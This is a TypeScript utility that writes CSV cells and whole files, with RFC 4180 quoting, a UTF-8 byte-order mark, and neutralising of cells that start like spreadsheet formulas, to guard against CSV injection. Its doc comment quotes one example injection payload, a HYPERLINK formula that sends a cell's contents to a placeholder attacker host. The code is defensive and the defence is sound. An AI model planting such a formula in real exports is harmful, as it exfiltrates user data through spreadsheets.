/**
 * The one way the product writes CSV (every export, on either side: the attendance export, the
 * bulk-invitation report), kept beside the contract so that the SPA, the machines and the server
 * may all import it.
 *
 * Cells are RFC 4180: a cell holding a double quote, a comma, a semicolon (the separator of
 * spreadsheets in many locales), CR or LF is quoted, its quotes doubled. A text cell starting with
 * `=`, `+`, `-`, `@`, a tab or CR is prefixed with a single quote, so a spreadsheet shows it as
 * text and never runs it as a formula (OWASP "CSV Injection"): a learner named
 * `=HYPERLINK("https://evil.example/?d="&C3,"Open")` stays a name. Numbers the product computed
 * are written as they are (a negative figure stays a number).
 */

/** A cell: text (neutralised), a number (as is), or nothing (empty). */
export type CsvCell = string | number | null | undefined;

/** What makes a spreadsheet read a cell as a formula (OWASP CSV Injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** UTF-8 byte-order mark: Excel reads the file as UTF-8 (Arabic names) only when it starts with it. */
export const UTF8_BOM = '\uFEFF';

/** One cell as CSV text: neutralised (text only), then quoted when it needs to be. */
export function csvCell(value: CsvCell): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'number' ? String(value) : FORMULA_START.test(value) ? `'${value}` : value;
  return /[",;\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * A whole CSV file: rows of cells, comma separated, CRLF after every line, starting with the UTF-8
 * byte-order mark unless `bom` is false.
 */
export function csvText(rows: ReadonlyArray<ReadonlyArray<CsvCell>>, options: { bom?: boolean } = {}): string {
  return (options.bom === false ? '' : UTF8_BOM) + rows.map((r) => r.map(csvCell).join(',') + '\r\n').join('');
}
